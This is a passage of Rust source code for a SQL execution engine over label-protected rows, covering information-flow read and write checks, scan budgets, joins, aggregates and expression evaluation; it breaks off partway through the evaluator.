        for &loc in &locs {
            let row = &t.partitions[loc.part].rows[loc.row];
            let mut cells = Vec::with_capacity(set_idx.len());
            for (ci, e) in &set_idx {
                let v = eval(e, &t.columns, &row.values)?;
                let (ref cname, cty) = t.columns[*ci];
                if !v.fits(cty) {
                    return Err(QueryError::TypeMismatch { column: cname.clone(), expected: cty });
                }
                cells.push((*ci, v));
            }
            staged.push((loc, cells));
        }
        let affected = staged.len();
        for (loc, cells) in staged {
            for (ci, v) in cells {
                t.partitions[loc.part].rows[loc.row].values[ci] = v;
            }
        }
        // Index maintenance: rewriting an indexed column invalidates the
        // touched partitions' runs.
        if set_idx.iter().any(|(ci, _)| t.run_slot(*ci).is_some()) {
            let mut parts: Vec<usize> = locs.iter().map(|l| l.part).collect();
            parts.sort_unstable();
            parts.dedup();
            for pi in parts {
                t.rebuild_runs(pi);
            }
        }
        Ok(QueryOutput { affected, scanned, ..empty_output() })
    }

    fn delete(
        &self,
        subject: &Subject,
        mode: QueryMode,
        cost: QueryCost,
        table: &str,
        filter: Option<Expr>,
    ) -> Result<QueryOutput, QueryError> {
        let mut tables = self.tables.write();
        let t = tables
            .get_mut(table)
            .ok_or_else(|| QueryError::NoSuchTable(table.to_string()))?;
        validate_columns(&t.columns, filter.as_ref())?;
        // Mark (scan), then sweep — so WriteDenied and budget errors abort
        // the statement without partial effects.
        let mut memo = subject.memo();
        let Scan { locs, scanned } =
            self.exec.scan(t, &mut memo, mode, cost, filter.as_ref(), true)?;
        let affected = locs.len();
        if affected > 0 {
            let mut doomed: Vec<Option<Vec<bool>>> = vec![None; t.partitions.len()];
            for l in &locs {
                let n = t.partitions[l.part].rows.len();
                doomed[l.part].get_or_insert_with(|| vec![false; n])[l.row] = true;
            }
            for (pi, d) in doomed.iter().enumerate() {
                let Some(d) = d else { continue };
                let mut i = 0;
                t.partitions[pi].rows.retain(|_| {
                    let keep = !d[i];
                    i += 1;
                    keep
                });
                if !t.partitions[pi].rows.is_empty() {
                    // Surviving rows shifted: rebuild this partition's runs.
                    t.rebuild_runs(pi);
                }
            }
            t.drop_empty_partitions();
        }
        Ok(QueryOutput { affected, scanned, ..empty_output() })
    }
}

enum Projection {
    Col(usize),
    Expr(Expr),
}

/// Materialize an inner equi-join as a temporary table whose columns are
/// qualified (`left.col`, `right.col`). Row labels combine the two source
/// rows' labels — derived data carries both provenances. Visibility
/// filtering happens per *source* row (via the executor's prefilter, so
/// the partitioned engine decides it per partition), and invisible rows
/// can never influence the join output.
#[allow(clippy::too_many_arguments)]
fn join_tables(
    exec: &dyn Executor,
    subject: &Subject,
    mode: QueryMode,
    cost: QueryCost,
    lname: &str,
    left: &Table,
    rname: &str,
    right: &Table,
    on_left: &str,
    on_right: &str,
) -> Result<Table, QueryError> {
    if lname == rname {
        return Err(QueryError::Eval("self-joins are not supported".into()));
    }
    let mut columns: Vec<(String, ColumnType)> = Vec::new();
    for (n, ty) in &left.columns {
        columns.push((format!("{lname}.{n}"), *ty));
    }
    for (n, ty) in &right.columns {
        columns.push((format!("{rname}.{n}"), *ty));
    }
    let strip = |qualified: &str, table: &str| -> Option<String> {
        qualified
            .strip_prefix(table)
            .and_then(|rest| rest.strip_prefix('.'))
            .map(str::to_string)
    };
    let lcol = strip(on_left, lname)
        .ok_or_else(|| QueryError::NoSuchColumn(on_left.to_string()))?;
    let rcol = strip(on_right, rname)
        .ok_or_else(|| QueryError::NoSuchColumn(on_right.to_string()))?;
    let li = left.col_index(&lcol)?;
    let ri = right.col_index(&rcol)?;

    let mut memo = subject.memo();
    let lvis = exec.visible(left, &mut memo, mode);
    let rvis = exec.visible(right, &mut memo, mode);

    // Nested-loop join with the pair count charged against the budget.
    let pairs = lvis.len() as u64 * rvis.len() as u64;
    if pairs > cost.max_rows_scanned {
        return Err(QueryError::BudgetExhausted);
    }
    let mut out = Table::new(columns);
    for a in &lvis {
        let lpart = &left.partitions[a.part];
        let lrow = &lpart.rows[a.row];
        for b in &rvis {
            let rpart = &right.partitions[b.part];
            let rrow = &rpart.rows[b.row];
            if lrow.values[li].sql_eq(&rrow.values[ri]) != Value::Bool(true) {
                continue;
            }
            let mut values = Vec::with_capacity(out.columns.len());
            values.extend(lrow.values.iter().cloned());
            values.extend(rrow.values.iter().cloned());
            out.insert_row(lpart.labels.combine(rpart.labels), values);
        }
    }
    Ok(out)
}

fn empty_output() -> QueryOutput {
    QueryOutput {
        columns: Vec::new(),
        rows: Vec::new(),
        labels: LabelPair::public(),
        affected: 0,
        scanned: 0,
    }
}

/// Validate that every column a filter references exists, so "no such
/// column" errors surface deterministically (not only when a row matches).
fn validate_columns(
    cols: &[(String, ColumnType)],
    filter: Option<&Expr>,
) -> Result<(), QueryError> {
    if let Some(f) = filter {
        let mut names = Vec::new();
        f.columns(&mut names);
        for c in &names {
            col_index(cols, c)?;
        }
    }
    Ok(())
}

/// Fold the interned labels of contributing rows. [`PairId::combine`]'s
/// identity fast path means a scan over rows with one distinct label pair
/// (the common case: one user's table) does no set algebra at all.
fn combine_labels<I: Iterator<Item = PairId>>(mut labels: I) -> PairId {
    // Seed from the first row, not from PUBLIC: integrity combines by
    // intersection, and an empty seed would erase every integrity claim.
    match labels.next() {
        None => PairId::PUBLIC,
        Some(first) => labels.fold(first, |acc, l| acc.combine(l)),
    }
}

fn eval(
    expr: &Expr,
    cols: &[(String, ColumnType)],
    row: &[Value],
) -> Result<Value, QueryError> {
    match expr {
        Expr::Literal(v) => Ok(v.clone()),
        Expr::Column(c) => {
            let i = col_index(cols, c)?;
            Ok(row[i].clone())
        }
        Expr::Not(e) => {
            let v = eval(e, cols, row)?;
            Ok(Value::Bool(!v.is_truthy()))
        }
        Expr::Neg(e) => match eval(e, cols, row)? {
            Value::Int(i) => Ok(Value::Int(
                i.checked_neg().ok_or_else(|| QueryError::Eval("integer overflow".into()))?,
            )),
            Value::Null => Ok(Value::Null),
            _ => Err(QueryError::Eval("cannot negate a non-integer".into())),
        },
        Expr::IsNull { expr, negated } => {
            let v = eval(expr, cols, row)?;
            let isnull = matches!(v, Value::Null);
            Ok(Value::Bool(isnull != *negated))
        }
        Expr::Binary { op, left, right } => {
            use BinOp::*;
            // Short-circuit logic first.
            if *op == And {
                let l = eval(left, cols, row)?;
                if !l.is_truthy() {
                    return Ok(Value::Bool(false));
                }
                return Ok(Value::Bool(eval(right, cols, row)?.is_truthy()));
            }
            if *op == Or {
                let l = eval(left, cols, row)?;
                if l.is_truthy() {
                    return Ok(Value::Bool(true));
                }
                return Ok(Value::Bool(eval(right, cols, row)?.is_truthy()));
            }
            let l = eval(left, cols, row)?;
            let r = eval(right, cols, row)?;
            if matches!(l, Value::Null) || matches!(r, Value::Null) {
                return Ok(Value::Null);
            }
            match op {
                Eq => Ok(l.sql_eq(&r)),
                NotEq => match l.sql_eq(&r) {
                    Value::Bool(b) => Ok(Value::Bool(!b)),
                    v => Ok(v),
                },
                Lt | LtEq | Gt | GtEq => {
                    let ord = match (&l, &r) {
                        (Value::Int(a), Value::Int(b)) => a.cmp(b),
                        (Value::Text(a), Value::Text(b)) => a.cmp(b),
                        _ => return Err(QueryError::Eval("incomparable values".into())),
                    };
                    Ok(Value::Bool(match op {
                        Lt => ord.is_lt(),
                        LtEq => ord.is_le(),
                        Gt => ord.is_gt(),
                        GtEq => ord.is_ge(),
                        _ => unreachable!(),
                    }))
                }
                Like => match (&l, &r) {
                    (Value::Text(t), Value::Text(p)) => Ok(Value::Bool(like_match(t, p))),
                    _ => Err(QueryError::Eval("LIKE needs text operands".into())),
                },
                Add | Sub | Mul | Div | Mod => {
                    let (a, b) = match (&l, &r) {
                        (Value::Int(a), Value::Int(b)) => (*a, *b),
                        _ => return Err(QueryError::Eval("arithmetic needs integers".into())),
                    };
                    let out = match op {
                        Add => a.checked_add(b),
                        Sub => a.checked_sub(b),
                        Mul => a.checked_mul(b),
                        Div => {
                            if b == 0 {
                                return Err(QueryError::Eval("division by zero".into()));
                            }
                            a.checked_div(b)
                        }
                        Mod => {
                            if b == 0 {
                                return Err(QueryError::Eval("modulo by zero".into()));
                            }
                            a.checked_rem(b)
                        }
                        _ => unreachable!(),
                    };
                    out.map(Value::Int)
                        .ok_or_else(|| QueryError::Eval("integer overflow".into()))
                }
                And | Or => unreachable!("handled above"),
            }
        }
    }
}

/// Evaluate an expression with no row context (INSERT values).
fn eval_const(expr: &Expr) -> Result<Value, QueryError> {
    eval(expr, &[], &[])
}

fn aggregate(
    item: &SelectItem,
    cols: &[(String, ColumnType)],
    hits: &[(&StoredRow, PairId)],
) -> Result<Value, QueryError> {
    match item {
        SelectItem::CountStar => Ok(Value::Int(hits.len() as i64)),
        SelectItem::Count(c) => {
            let i = col_index(cols, c)?;
            Ok(Value::Int(
                hits.iter().filter(|(r, _)| !matches!(r.values[i], Value::Null)).count() as i64,
            ))
        }
        SelectItem::Sum(c) => {
            let i = col_index(cols, c)?;
            let mut sum = 0i64;
            let mut any = false;
            for (r, _) in hits {
                match &r.values[i] {
                    Value::Int(v) => {
                        sum = sum
                            .checked_add(*v)
                            .ok_or_else(|| QueryError::Eval("SUM overflow".into()))?;
                        any = true;
                    }
                    Value::Null => {}
                    _ => return Err(QueryError::Eval("SUM needs an integer column".into())),
                }
            }
            Ok(if any { Value::Int(sum) } else { Value::Null })
        }
        SelectItem::Min(c) | SelectItem::Max(c) => {
            let i = col_index(cols, c)?;
            let want_min = matches!(item, SelectItem::Min(_));
            let mut best: Option<Value> = None;
            for (r, _) in hits {
                let v = &r.values[i];
                if matches!(v, Value::Null) {
                    continue;
                }
                best = Some(match best {
                    None => v.clone(),
                    Some(b) => {
                        let take_new = if want_min {
                            v.order(&b).is_lt()
                        } else {
                            v.order(&b).is_gt()
                        };
                        if take_new {
                            v.clone()
                        } else {
                            b
                        }
                    }
                });
            }
            Ok(best.unwrap_or(Value::Null))
        }
        _ => unreachable!("not an aggregate"),
    }
}
