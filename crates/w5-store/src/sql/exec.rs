//! Query execution over labeled rows.

use super::ast::{BinOp, Expr, SelectItem, Statement};
use super::lexer::SqlError;
use super::parser::parse;
use super::value::{like_match, ColumnType, Value};
use crate::subject::Subject;
use parking_lot::RwLock;
use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;
use w5_difc::{LabelPair, PairId};

/// How the engine treats rows the subject may not read. See the module docs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum QueryMode {
    /// W5 semantics: unreadable rows are silently invisible.
    Filtered,
    /// Status-quo shared database: all rows visible to application SQL.
    Naive,
}

/// Per-query resource budget (§3.5: the database must survive malicious
/// queries). `max_rows_scanned` bounds the work one query may perform.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct QueryCost {
    /// Maximum number of row visits before the query is aborted.
    pub max_rows_scanned: u64,
}

impl QueryCost {
    /// Effectively unbounded (trusted callers / experiments).
    pub fn unlimited() -> QueryCost {
        QueryCost { max_rows_scanned: u64::MAX }
    }

    /// The platform default for untrusted application queries.
    pub fn sandbox_default() -> QueryCost {
        QueryCost { max_rows_scanned: 100_000 }
    }
}

/// Execution errors.
#[derive(Clone, Debug, PartialEq)]
pub enum QueryError {
    /// Parse-time error.
    Sql(SqlError),
    /// Unknown table.
    NoSuchTable(String),
    /// Unknown column.
    NoSuchColumn(String),
    /// A value did not fit its column type.
    TypeMismatch { column: String, expected: ColumnType },
    /// A write touched a row the subject may not write.
    WriteDenied,
    /// The query exceeded its row-scan budget.
    BudgetExhausted,
    /// Runtime evaluation error (e.g. division by zero).
    Eval(String),
    /// The table already exists.
    TableExists(String),
    /// The statement was aborted by an injected fault (`w5-chaos`) before
    /// it executed. No rows were read or written.
    Aborted,
}

impl fmt::Display for QueryError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            QueryError::Sql(e) => write!(f, "{e}"),
            QueryError::NoSuchTable(t) => write!(f, "no such table: {t}"),
            QueryError::NoSuchColumn(c) => write!(f, "no such column: {c}"),
            QueryError::TypeMismatch { column, expected } => {
                write!(f, "type mismatch for column {column}: expected {expected}")
            }
            QueryError::WriteDenied => write!(f, "write denied by label policy"),
            QueryError::BudgetExhausted => write!(f, "query exceeded its scan budget"),
            QueryError::Eval(m) => write!(f, "evaluation error: {m}"),
            QueryError::TableExists(t) => write!(f, "table already exists: {t}"),
            QueryError::Aborted => write!(f, "query aborted before execution"),
        }
    }
}

impl std::error::Error for QueryError {}

impl From<SqlError> for QueryError {
    fn from(e: SqlError) -> Self {
        QueryError::Sql(e)
    }
}

/// A materialized result row.
#[derive(Clone, Debug, PartialEq)]
pub struct Row {
    /// Cell values, in result-column order.
    pub values: Vec<Value>,
    /// The stored row's labels (for SELECT results).
    pub labels: LabelPair,
}

/// The result of executing a statement.
#[derive(Clone, Debug, PartialEq)]
pub struct QueryOutput {
    /// Result column headers (empty for DML).
    pub columns: Vec<String>,
    /// Result rows (empty for DML).
    pub rows: Vec<Row>,
    /// Combined labels of all data that contributed to the result. The
    /// caller must taint the reading process with these labels.
    pub labels: LabelPair,
    /// Rows inserted/updated/deleted by DML.
    pub affected: usize,
    /// Row visits consumed (cost accounting).
    pub scanned: u64,
}

/// A stored row. Labels are held as an interned [`PairId`] — a `Copy`
/// 8-byte handle — so per-row flow checks during scans are integer-keyed
/// memo probes and stamping/combining labels never clones tag vectors.
#[derive(Clone, Debug)]
struct StoredRow {
    values: Vec<Value>,
    labels: PairId,
}

#[derive(Clone, Debug)]
struct Table {
    columns: Vec<(String, ColumnType)>,
    rows: Vec<StoredRow>,
}

impl Table {
    fn col_index(&self, name: &str) -> Result<usize, QueryError> {
        self.columns
            .iter()
            .position(|(n, _)| n == name)
            .ok_or_else(|| QueryError::NoSuchColumn(name.to_string()))
    }
}

/// A labeled database. Cheap to clone (shared state).
#[derive(Clone, Default)]
pub struct Database {
    tables: Arc<RwLock<HashMap<String, Table>>>,
}

impl Database {
    /// An empty database.
    pub fn new() -> Database {
        Database::default()
    }

    /// Parse and execute one statement.
    ///
    /// * `subject` — the acting process's labels/capabilities.
    /// * `mode` — row-visibility semantics (see [`QueryMode`]).
    /// * `cost` — scan budget.
    /// * `insert_labels` — labels stamped on rows created by INSERT; must be
    ///   writable by the subject.
    pub fn execute(
        &self,
        subject: &Subject,
        mode: QueryMode,
        cost: QueryCost,
        insert_labels: &LabelPair,
        sql: &str,
    ) -> Result<QueryOutput, QueryError> {
        let stmt = parse(sql)?;
        self.execute_stmt(subject, mode, cost, insert_labels, stmt)
    }

    /// Execute a pre-parsed statement (the hot path for benchmarks).
    pub fn execute_stmt(
        &self,
        subject: &Subject,
        mode: QueryMode,
        cost: QueryCost,
        insert_labels: &LabelPair,
        stmt: Statement,
    ) -> Result<QueryOutput, QueryError> {
        // Statements execute all-or-nothing: an injected abort fires before
        // any row is visited, so there is never a half-applied write.
        if w5_chaos::inject(w5_chaos::Site::SqlQuery).is_some() {
            return Err(QueryError::Aborted);
        }
        match stmt {
            Statement::CreateTable { name, columns } => self.create_table(&name, columns),
            Statement::DropTable { name } => self.drop_table(subject, &name),
            Statement::Insert { table, columns, rows } => {
                self.insert(subject, insert_labels, &table, columns, rows)
            }
            Statement::Select { items, table, join, filter, order_by, limit } => {
                self.select(subject, mode, cost, &table, join, items, filter, order_by, limit)
            }
            Statement::Update { table, sets, filter } => {
                self.update(subject, mode, cost, &table, sets, filter)
            }
            Statement::Delete { table, filter } => {
                self.delete(subject, mode, cost, &table, filter)
            }
        }
    }

    /// Names of all tables (schema metadata is public).
    pub fn table_names(&self) -> Vec<String> {
        let mut v: Vec<String> = self.tables.read().keys().cloned().collect();
        v.sort();
        v
    }

    /// Total stored rows across tables (trusted accounting).
    pub fn total_rows(&self) -> usize {
        self.tables.read().values().map(|t| t.rows.len()).sum()
    }

    /// Per-table census of row labels: for each table, the distinct label
    /// pairs stamped on its rows with their row counts, sorted
    /// deterministically. Trusted accounting for configuration audits
    /// (`w5-analyze`) — this reveals *which* labels exist, never row
    /// contents, and is only reachable from platform-trusted code.
    pub fn label_census(&self) -> Vec<(String, Vec<(LabelPair, usize)>)> {
        let tables = self.tables.read();
        let mut out: Vec<(String, Vec<(LabelPair, usize)>)> = tables
            .iter()
            .map(|(name, t)| {
                let mut counts: HashMap<PairId, usize> = HashMap::new();
                for row in &t.rows {
                    *counts.entry(row.labels).or_insert(0) += 1;
                }
                let mut entries: Vec<(LabelPair, usize)> = counts
                    .into_iter()
                    .map(|(id, n)| (id.resolve(), n))
                    .collect();
                entries.sort_by(|a, b| {
                    (a.0.secrecy.as_slice(), a.0.integrity.as_slice())
                        .cmp(&(b.0.secrecy.as_slice(), b.0.integrity.as_slice()))
                });
                (name.clone(), entries)
            })
            .collect();
        out.sort_by(|a, b| a.0.cmp(&b.0));
        out
    }

    fn create_table(
        &self,
        name: &str,
        columns: Vec<(String, ColumnType)>,
    ) -> Result<QueryOutput, QueryError> {
        let mut tables = self.tables.write();
        if tables.contains_key(name) {
            return Err(QueryError::TableExists(name.to_string()));
        }
        tables.insert(name.to_string(), Table { columns, rows: Vec::new() });
        Ok(empty_output())
    }

    fn drop_table(&self, subject: &Subject, name: &str) -> Result<QueryOutput, QueryError> {
        let mut tables = self.tables.write();
        let t = tables
            .get(name)
            .ok_or_else(|| QueryError::NoSuchTable(name.to_string()))?;
        // Dropping destroys every row, so it is a write to each of them.
        // The check is uniform over all rows (visible or not) to avoid
        // turning DROP into an existence oracle.
        let mut memo = subject.memo();
        if !t.rows.iter().all(|r| memo.may_write(r.labels)) {
            return Err(QueryError::WriteDenied);
        }
        tables.remove(name);
        Ok(empty_output())
    }

    fn insert(
        &self,
        subject: &Subject,
        insert_labels: &LabelPair,
        table: &str,
        columns: Option<Vec<String>>,
        rows: Vec<Vec<Expr>>,
    ) -> Result<QueryOutput, QueryError> {
        if !subject.may_write(insert_labels) {
            return Err(QueryError::WriteDenied);
        }
        // Intern once; every inserted row stamps the same `Copy` id
        // instead of cloning the label pair.
        let insert_id = insert_labels.interned();
        let mut tables = self.tables.write();
        let t = tables
            .get_mut(table)
            .ok_or_else(|| QueryError::NoSuchTable(table.to_string()))?;
        // Resolve the column order once.
        let idxs: Vec<usize> = match &columns {
            Some(cols) => cols
                .iter()
                .map(|c| t.col_index(c))
                .collect::<Result<_, _>>()?,
            None => (0..t.columns.len()).collect(),
        };
        let mut staged = Vec::with_capacity(rows.len());
        for exprs in &rows {
            if exprs.len() != idxs.len() {
                return Err(QueryError::Eval(format!(
                    "expected {} values, got {}",
                    idxs.len(),
                    exprs.len()
                )));
            }
            let mut values = vec![Value::Null; t.columns.len()];
            for (expr, &ix) in exprs.iter().zip(&idxs) {
                let v = eval_const(expr)?;
                let (ref cname, cty) = t.columns[ix];
                if !v.fits(cty) {
                    return Err(QueryError::TypeMismatch { column: cname.clone(), expected: cty });
                }
                values[ix] = v;
            }
            staged.push(StoredRow { values, labels: insert_id });
        }
        let n = staged.len();
        t.rows.extend(staged);
        Ok(QueryOutput { affected: n, ..empty_output() })
    }

    #[allow(clippy::too_many_arguments)]
    fn select(
        &self,
        subject: &Subject,
        mode: QueryMode,
        cost: QueryCost,
        table: &str,
        join: Option<crate::sql::ast::Join>,
        items: Vec<SelectItem>,
        filter: Option<Expr>,
        order_by: Option<(String, bool)>,
        limit: Option<usize>,
    ) -> Result<QueryOutput, QueryError> {
        let tables = self.tables.read();
        let t = tables
            .get(table)
            .ok_or_else(|| QueryError::NoSuchTable(table.to_string()))?;

        // With a JOIN, materialize the (visibility-filtered) combined
        // relation first; the rest of the pipeline is shared.
        let joined: Option<Table> = match &join {
            None => None,
            Some(j) => {
                let t2 = tables
                    .get(&j.table)
                    .ok_or_else(|| QueryError::NoSuchTable(j.table.clone()))?;
                Some(join_tables(subject, mode, cost, table, t, &j.table, t2, &j.left, &j.right)?)
            }
        };
        let t = joined.as_ref().unwrap_or(t);

        validate_columns(t, filter.as_ref())?;

        // Scan by reference: rows rejected by the label check or the
        // predicate cost one memoized id-keyed check and zero clones.
        let mut memo = subject.memo();
        let mut scanned = 0u64;
        let mut hits: Vec<&StoredRow> = Vec::new();
        for row in &t.rows {
            scanned += 1;
            if scanned > cost.max_rows_scanned {
                return Err(QueryError::BudgetExhausted);
            }
            if mode == QueryMode::Filtered && !memo.may_read(row.labels) {
                continue;
            }
            if let Some(f) = &filter {
                if !eval(f, t, &row.values)?.is_truthy() {
                    continue;
                }
            }
            hits.push(row);
        }

        if let Some((col, asc)) = &order_by {
            let ix = t.col_index(col)?;
            hits.sort_by(|a, b| {
                let ord = a.values[ix].order(&b.values[ix]);
                if *asc {
                    ord
                } else {
                    ord.reverse()
                }
            });
        }
        if let Some(n) = limit {
            hits.truncate(n);
        }

        // Combined labels over contributing rows: an id-level fold whose
        // self-combine fast path makes the homogeneous-label scan free.
        let label_id = combine_labels(hits.iter().map(|r| r.labels));
        let labels = label_id.resolve();

        let is_agg = items.iter().any(SelectItem::is_aggregate);
        if is_agg {
            let mut values = Vec::with_capacity(items.len());
            let mut headers = Vec::with_capacity(items.len());
            for item in &items {
                headers.push(item.header());
                values.push(aggregate(item, t, &hits)?);
            }
            return Ok(QueryOutput {
                columns: headers,
                rows: vec![Row { values, labels: labels.clone() }],
                labels,
                affected: 0,
                scanned,
            });
        }

        // Plain projection.
        let mut headers = Vec::new();
        let mut proj: Vec<Projection> = Vec::new();
        for item in &items {
            match item {
                SelectItem::Wildcard => {
                    for (i, (name, _)) in t.columns.iter().enumerate() {
                        headers.push(name.clone());
                        proj.push(Projection::Col(i));
                    }
                }
                SelectItem::Expr(Expr::Column(c)) => {
                    headers.push(c.clone());
                    proj.push(Projection::Col(t.col_index(c)?));
                }
                SelectItem::Expr(e) => {
                    let mut cols = Vec::new();
                    e.columns(&mut cols);
                    for c in &cols {
                        t.col_index(c)?;
                    }
                    headers.push(item.header());
                    proj.push(Projection::Expr(e.clone()));
                }
                _ => unreachable!("aggregates handled above"),
            }
        }
        let mut rows = Vec::with_capacity(hits.len());
        let mut resolved: HashMap<PairId, LabelPair> = HashMap::new();
        for r in &hits {
            let mut values = Vec::with_capacity(proj.len());
            for p in &proj {
                values.push(match p {
                    Projection::Col(i) => r.values[*i].clone(),
                    Projection::Expr(e) => eval(e, t, &r.values)?,
                });
            }
            let labels =
                resolved.entry(r.labels).or_insert_with(|| r.labels.resolve()).clone();
            rows.push(Row { values, labels });
        }
        Ok(QueryOutput { columns: headers, rows, labels, affected: 0, scanned })
    }

    fn update(
        &self,
        subject: &Subject,
        mode: QueryMode,
        cost: QueryCost,
        table: &str,
        sets: Vec<(String, Expr)>,
        filter: Option<Expr>,
    ) -> Result<QueryOutput, QueryError> {
        let mut tables = self.tables.write();
        let t = tables
            .get_mut(table)
            .ok_or_else(|| QueryError::NoSuchTable(table.to_string()))?;
        validate_columns(t, filter.as_ref())?;
        let set_idx: Vec<(usize, Expr)> = sets
            .into_iter()
            .map(|(c, e)| t.col_index(&c).map(|i| (i, e)))
            .collect::<Result<_, _>>()?;

        let mut memo = subject.memo();
        let mut scanned = 0u64;
        let mut affected = 0usize;
        // Two passes: decide, then apply — so a WriteDenied aborts the whole
        // statement atomically.
        let mut to_update = Vec::new();
        for (ri, row) in t.rows.iter().enumerate() {
            scanned += 1;
            if scanned > cost.max_rows_scanned {
                return Err(QueryError::BudgetExhausted);
            }
            if mode == QueryMode::Filtered && !memo.may_read(row.labels) {
                continue;
            }
            if let Some(f) = &filter {
                if !eval(f, t, &row.values)?.is_truthy() {
                    continue;
                }
            }
            if !memo.may_write(row.labels) {
                return Err(QueryError::WriteDenied);
            }
            to_update.push(ri);
        }
        // Precompute new values (set expressions may reference old values).
        let mut staged: Vec<(usize, Vec<(usize, Value)>)> = Vec::with_capacity(to_update.len());
        for &ri in &to_update {
            let row = &t.rows[ri];
            let mut cells = Vec::with_capacity(set_idx.len());
            for (ci, e) in &set_idx {
                let v = eval(e, t, &row.values)?;
                let (ref cname, cty) = t.columns[*ci];
                if !v.fits(cty) {
                    return Err(QueryError::TypeMismatch { column: cname.clone(), expected: cty });
                }
                cells.push((*ci, v));
            }
            staged.push((ri, cells));
        }
        for (ri, cells) in staged {
            for (ci, v) in cells {
                t.rows[ri].values[ci] = v;
            }
            affected += 1;
        }
        Ok(QueryOutput { affected, scanned, ..empty_output() })
    }

    fn delete(
        &self,
        subject: &Subject,
        mode: QueryMode,
        cost: QueryCost,
        table: &str,
        filter: Option<Expr>,
    ) -> Result<QueryOutput, QueryError> {
        let mut tables = self.tables.write();
        let t = tables
            .get_mut(table)
            .ok_or_else(|| QueryError::NoSuchTable(table.to_string()))?;
        validate_columns(t, filter.as_ref())?;
        // Mark pass (immutable), then sweep — so WriteDenied and budget
        // errors abort the statement without partial effects.
        let mut memo = subject.memo();
        let mut scanned = 0u64;
        let mut doomed = vec![false; t.rows.len()];
        for (ri, row) in t.rows.iter().enumerate() {
            scanned += 1;
            if scanned > cost.max_rows_scanned {
                return Err(QueryError::BudgetExhausted);
            }
            if mode == QueryMode::Filtered && !memo.may_read(row.labels) {
                continue;
            }
            if let Some(f) = &filter {
                if !eval(f, t, &row.values)?.is_truthy() {
                    continue;
                }
            }
            if !memo.may_write(row.labels) {
                return Err(QueryError::WriteDenied);
            }
            doomed[ri] = true;
        }
        let affected = doomed.iter().filter(|&&d| d).count();
        let mut ri = 0;
        t.rows.retain(|_| {
            let keep = !doomed[ri];
            ri += 1;
            keep
        });
        Ok(QueryOutput { affected, scanned, ..empty_output() })
    }
}

enum Projection {
    Col(usize),
    Expr(Expr),
}

/// Materialize an inner equi-join as a temporary table whose columns are
/// qualified (`left.col`, `right.col`). Row labels combine the two source
/// rows' labels — derived data carries both provenances. Visibility
/// filtering happens per *source* row, so invisible rows can never
/// influence the join output.
#[allow(clippy::too_many_arguments)]
fn join_tables(
    subject: &Subject,
    mode: QueryMode,
    cost: QueryCost,
    lname: &str,
    left: &Table,
    rname: &str,
    right: &Table,
    on_left: &str,
    on_right: &str,
) -> Result<Table, QueryError> {
    if lname == rname {
        return Err(QueryError::Eval("self-joins are not supported".into()));
    }
    let mut columns: Vec<(String, ColumnType)> = Vec::new();
    for (n, ty) in &left.columns {
        columns.push((format!("{lname}.{n}"), *ty));
    }
    for (n, ty) in &right.columns {
        columns.push((format!("{rname}.{n}"), *ty));
    }
    let strip = |qualified: &str, table: &str| -> Option<String> {
        qualified
            .strip_prefix(table)
            .and_then(|rest| rest.strip_prefix('.'))
            .map(str::to_string)
    };
    let lcol = strip(on_left, lname)
        .ok_or_else(|| QueryError::NoSuchColumn(on_left.to_string()))?;
    let rcol = strip(on_right, rname)
        .ok_or_else(|| QueryError::NoSuchColumn(on_right.to_string()))?;
    let li = left.col_index(&lcol)?;
    let ri = right.col_index(&rcol)?;

    let mut memo = subject.memo();
    let mut visible = |rows: &[StoredRow]| -> Vec<usize> {
        rows.iter()
            .enumerate()
            .filter(|(_, r)| mode == QueryMode::Naive || memo.may_read(r.labels))
            .map(|(i, _)| i)
            .collect()
    };
    let lvis = visible(&left.rows);
    let rvis = visible(&right.rows);

    // Nested-loop join with the pair count charged against the budget.
    let pairs = lvis.len() as u64 * rvis.len() as u64;
    if pairs > cost.max_rows_scanned {
        return Err(QueryError::BudgetExhausted);
    }
    let mut rows = Vec::new();
    for &a in &lvis {
        let lrow = &left.rows[a];
        for &b in &rvis {
            let rrow = &right.rows[b];
            if lrow.values[li].sql_eq(&rrow.values[ri]) != Value::Bool(true) {
                continue;
            }
            let mut values = Vec::with_capacity(columns.len());
            values.extend(lrow.values.iter().cloned());
            values.extend(rrow.values.iter().cloned());
            rows.push(StoredRow { values, labels: lrow.labels.combine(rrow.labels) });
        }
    }
    Ok(Table { columns, rows })
}

fn empty_output() -> QueryOutput {
    QueryOutput {
        columns: Vec::new(),
        rows: Vec::new(),
        labels: LabelPair::public(),
        affected: 0,
        scanned: 0,
    }
}

/// Validate that every column a filter references exists, so "no such
/// column" errors surface deterministically (not only when a row matches).
fn validate_columns(t: &Table, filter: Option<&Expr>) -> Result<(), QueryError> {
    if let Some(f) = filter {
        let mut cols = Vec::new();
        f.columns(&mut cols);
        for c in &cols {
            t.col_index(c)?;
        }
    }
    Ok(())
}

/// Fold the interned labels of contributing rows. [`PairId::combine`]'s
/// identity fast path means a scan over rows with one distinct label pair
/// (the common case: one user's table) does no set algebra at all.
fn combine_labels<I: Iterator<Item = PairId>>(mut labels: I) -> PairId {
    // Seed from the first row, not from PUBLIC: integrity combines by
    // intersection, and an empty seed would erase every integrity claim.
    match labels.next() {
        None => PairId::PUBLIC,
        Some(first) => labels.fold(first, |acc, l| acc.combine(l)),
    }
}

fn eval(expr: &Expr, table: &Table, row: &[Value]) -> Result<Value, QueryError> {
    match expr {
        Expr::Literal(v) => Ok(v.clone()),
        Expr::Column(c) => {
            let i = table.col_index(c)?;
            Ok(row[i].clone())
        }
        Expr::Not(e) => {
            let v = eval(e, table, row)?;
            Ok(Value::Bool(!v.is_truthy()))
        }
        Expr::Neg(e) => match eval(e, table, row)? {
            Value::Int(i) => Ok(Value::Int(
                i.checked_neg().ok_or_else(|| QueryError::Eval("integer overflow".into()))?,
            )),
            Value::Null => Ok(Value::Null),
            _ => Err(QueryError::Eval("cannot negate a non-integer".into())),
        },
        Expr::IsNull { expr, negated } => {
            let v = eval(expr, table, row)?;
            let isnull = matches!(v, Value::Null);
            Ok(Value::Bool(isnull != *negated))
        }
        Expr::Binary { op, left, right } => {
            use BinOp::*;
            // Short-circuit logic first.
            if *op == And {
                let l = eval(left, table, row)?;
                if !l.is_truthy() {
                    return Ok(Value::Bool(false));
                }
                return Ok(Value::Bool(eval(right, table, row)?.is_truthy()));
            }
            if *op == Or {
                let l = eval(left, table, row)?;
                if l.is_truthy() {
                    return Ok(Value::Bool(true));
